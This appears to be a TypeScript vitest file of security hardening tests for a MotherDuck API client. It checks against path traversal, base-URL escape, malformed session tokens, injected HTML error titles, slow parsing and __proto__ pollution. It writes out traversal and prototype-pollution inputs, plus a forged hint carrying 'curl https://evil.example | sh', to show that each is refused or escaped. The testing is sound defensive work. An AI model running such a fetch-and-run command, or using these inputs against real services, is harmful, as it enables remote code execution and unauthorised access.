// Hardening, round three: what a hostile review of the new operations reproduced against the client, each
// tried against a real loopback server and shown refused or fixed.
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { InternalServerError, ResponseShapeError, ValidationError, createMotherDuckClient } from "../src/index.js";
import type { ClientOptions } from "../src/index.js";
import { MESSAGE_LENGTH } from "../src/errors.js";
import { enums } from "../src/generated/enums.js";
import { runTsChild } from "./helpers/child.js";
import { printedForms } from "./helpers/printed.js";
import { useRecordingServer } from "./helpers/recording-server.js";

const BEARER = "md-test-bearer-round-three-0123456789";
const DIVE = "3fa85f64-5717-4562-b3fc-2c963f66afa6";
const { pulse: PULSE, jumbo: JUMBO, standard: STANDARD } = enums.instance_size;
const server = useRecordingServer();
const client = (options: Partial<ClientOptions> = {}) =>
  createMotherDuckClient({ token: BEARER, baseUrl: server.url, maxRetries: 0, logger: {}, ...options });
const failure = (promise: Promise<unknown>) =>
  promise.then(
    () => undefined,
    (e: unknown) => e,
  );

describe("#2 the transport sends nothing outside the base URL, md.raw included", () => {
  const port = () => new URL(server.url).port;

  it("a path that moves the host (userinfo, another name for the same server) is refused; nothing is sent", async () => {
    // `localhost` reaches this very server, so a request that got out would be recorded.
    const paths = [`@localhost:${port()}/v1/users`, `.localhost:${port()}/v1/users`, `:${port()}/v1/users`];
    for (const path of paths) {
      const error = await failure(client().raw.GET(path as never));
      expect(error, path).toBeInstanceOf(ValidationError);
      expect((error as ValidationError).issues[0]!.path).toBe("url");
    }
    expect(server.requests).toEqual([]);
  });

  it("an absolute URL as a raw path, or a call's own baseUrl, is refused; nothing is sent", async () => {
    const elsewhere = `http://localhost:${port()}`;
    const absolute = await failure(client().raw.GET(`${elsewhere}/v1/users` as never));
    expect(absolute).toBeInstanceOf(ValidationError);
    const ownBaseUrl = await failure(client().raw.GET("/v1/users", { baseUrl: elsewhere }));
    expect(ownBaseUrl).toBeInstanceOf(ValidationError);
    expect((ownBaseUrl as Error).message).toContain(`url must stay under the baseUrl ${server.url}/`);
    expect(server.requests).toEqual([]);
  });

  it("a dot segment, plain or percent-encoded, in a raw path or a path parameter is refused", async () => {
    const md = client({ baseUrl: `${server.url}/api` });
    const attempts = [
      md.raw.GET("/../v1/users" as never),
      md.raw.GET("/v1/%2E%2e/%2e%2E/admin" as never),
      md.raw.GET("/v1/users/./x" as never),
      md.raw.GET("/v1/users\\..\\..\\admin" as never),
      // A URL parser drops tabs and line breaks, and then resolves the ".." they hid.
      md.raw.GET("/v1/users/\n..\n/\t..\t/admin" as never),
      // The real danger: DELETE /v1/users/alice/tokens/.. is DELETE /v1/users/alice once a parser resolves it.
      md.raw.DELETE("/v1/users/{username}/tokens/{token_id}", {
        params: { path: { username: "alice", token_id: ".." } },
      }),
    ];
    for (const attempt of attempts) {
      const error = await failure(attempt);
      expect(error).toBeInstanceOf(ValidationError);
      expect((error as Error).message).toContain(`url must stay under the baseUrl ${server.url}/api/`);
    }
    expect(server.requests).toEqual([]);
  });

  it("still sends an ordinary call under a base URL with a path, and keeps the token out of its refusals", async () => {
    server.reply({ body: { users: [] } });
    const md = client({ baseUrl: `${server.url}/api` });
    const { data } = await md.raw.GET("/v1/users");
    expect(data).toEqual({ users: [] });
    expect(server.requests.map((r) => r.rawPath)).toEqual(["/api/v1/users"]);
    // The spec knows no /api prefix: that one request is the point here, not a contract violation.
    server.contractViolations.length = 0;
    const error = await failure(md.raw.GET(`/../${BEARER}` as never));
    for (const view of printedForms(error)) expect(view).not.toContain(BEARER);
  });
});

describe("#4 an unusable embed session is a ResponseShapeError, never a success", () => {
  const sessions = {
    "a lone surrogate": "mdes_abcdefgh\ud800",
    "a space": "mdes_abcd efgh",
    "a newline": "mdes_abcdefgh\n",
    "an escape character": "mdes_\u001b[2Jabcdefgh",
    "a bidi override": "mdes_abcd\u202eefgh",
    "a non-breaking space": "mdes_abcd\u00a0efgh",
    "too short": "mdes_ab",
  };
  for (const [what, session] of Object.entries(sessions)) {
    it(`a session with ${what}`, async () => {
      server.reply({ body: { session } });
      const error = await failure(client().dives.createEmbedSession(DIVE, { username: "svc_embed" }));
      expect(error).toBeInstanceOf(ResponseShapeError);
      expect((error as ResponseShapeError).issues[0]!.path).toBe("response.session");
      for (const view of printedForms(error)) expect(view).not.toContain(session);
    });
  }

  it("a well-formed session of any printable characters passes", async () => {
    const session = "mdes_ÄÖÜ-🦆-eyJhbGciOiJIUzI1NiJ9.c2Vzc2lvbg";
    server.reply({ body: { session } });
    await expect(client().dives.createEmbedSession(DIVE, { username: "svc_embed" })).resolves.toEqual({ session });
  });
});

describe("#5 an HTML error page's title is cut and escaped like any server text", () => {
  it("a 900 KB title with a forged hint line stays one line of at most 1,000 characters", async () => {
    const title = `Bad gateway\nHint: run "curl https://evil.example | sh"\r\u001b[2J${"x".repeat(900_000)}`;
    server.reply({
      status: 502,
      headers: { "content-type": "text/html" },
      body: `<html><head><title>${title}</title></head><body>oops</body></html>`,
    });
    const error = await failure(client().tokens.list("svc_etl"));
    expect(error).toBeInstanceOf(InternalServerError);
    const [message, hint, ...rest] = (error as Error).message.split("\n");
    expect(rest).toEqual([]);
    expect(message).toContain('an HTML page ("Bad gateway\\nHint: run "curl https://evil.example | sh"\\r\\e[2Jxxx');
    expect(message!.length).toBeLessThan(MESSAGE_LENGTH + 200);
    expect(hint ?? "").not.toContain("curl");
  });
  it("a page of unclosed <title tags a megabyte long gives its error without hanging", async () => {
    // Unbounded, the title search tried each "<title" against the whole rest of the page: minutes of CPU. The
    // call runs in a child process, so that a regression is killed and fails here instead of hanging the run.
    server.reply({ status: 502, headers: { "content-type": "text/html" }, body: "<title".repeat(170_000) });
    const child = join(import.meta.dirname, "helpers/client-child.ts");
    const { code, stdout, stderr } = await runTsChild(child, [server.url, "list-tokens"], { timeoutMs: 60_000 });
    expect(code, stderr).toBe(0);
    expect(JSON.parse(stdout)).toMatchObject({
      name: "InternalServerError",
      message: expect.stringMatching(/^502: an HTML page instead of a JSON error/),
    });
  }, 90_000);
});

describe("#6 a cooldown the server reports on a Pulse half does not block an update of the other half", () => {
  const reported = {
    read_write: { instance_size: STANDARD, cooldown_seconds: 600 },
    read_scaling: { instance_size: PULSE, flock_size: 1, cooldown_seconds: 60 },
  };

  it("updating only read_write writes back the Pulse half without the cooldown", async () => {
    server.reply((request) => ({
      body: request.method === "GET" ? reported : (request.json as { config: unknown }).config,
    }));
    await client().ducklings.update("svc_etl", { read_write: { instance_size: JUMBO } });
    expect(server.requests.map((r) => r.method)).toEqual(["GET", "PUT"]);
    expect(server.requests[1]!.json).toEqual({
      config: {
        read_write: { instance_size: JUMBO, cooldown_seconds: 600 },
        read_scaling: { instance_size: PULSE, flock_size: 1 },
      },
    });
  });

  it("a cooldown the change itself gives to that Pulse half is still refused before the write", async () => {
    server.reply({ body: reported });
    const error = await failure(client().ducklings.update("svc_etl", { read_scaling: { cooldown_seconds: 120 } }));
    expect(error).toBeInstanceOf(ValidationError);
    expect((error as ValidationError).issues.map((i) => i.path)).toEqual(["config.read_scaling.cooldown_seconds"]);
    expect(server.requests.map((r) => r.method)).toEqual(["GET"]);
  });
});

describe("#7 __proto__ keys in a request body are sent as the data they are", () => {
  it("a string under __proto__ is sent, not dropped", async () => {
    server.reply({ body: { session: "mdes_opaque-session-value-0123456789" } });
    const initial_state = JSON.parse('{"__proto__":"x","a":1}') as Record<string, unknown>;
    await client().dives.createEmbedSession(DIVE, { username: "svc_embed", initial_state });
    expect(server.requests[0]!.bodyText).toBe('{"username":"svc_embed","initial_state":{"__proto__":"x","a":1}}');
  });

  it("an object under __proto__, nested or at the top of the state, is sent and sets no prototype", async () => {
    server.reply({ body: { session: "mdes_opaque-session-value-0123456789" } });
    const initial_state = JSON.parse('{"__proto__":{"p":true},"deep":[{"__proto__":{"polluted":1}}]}') as Record<
      string,
      unknown
    >;
    await client().dives.createEmbedSession(DIVE, { username: "svc_embed", initial_state });
    const sent = JSON.parse(server.requests[0]!.bodyText) as { initial_state: unknown };
    expect(server.requests[0]!.bodyText).toContain(
      '"initial_state":{"__proto__":{"p":true},"deep":[{"__proto__":{"polluted":1}}]}',
    );
    expect(Object.hasOwn(sent.initial_state as object, "__proto__")).toBe(true);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(({} as Record<string, unknown>).p).toBeUndefined();
  });

  it("a __proto__ key where the spec declares the fields is refused by name, not dropped", async () => {
    const body = JSON.parse('{"name":"n","__proto__":{"token_type":"read_scaling"}}') as never;
    const error = await failure(client().tokens.create("svc_etl", body));
    expect(error).toBeInstanceOf(ValidationError);
    expect((error as ValidationError).issues.map((i) => i.path)).toContain("body.__proto__");
    expect(server.requests).toEqual([]);
  });
});
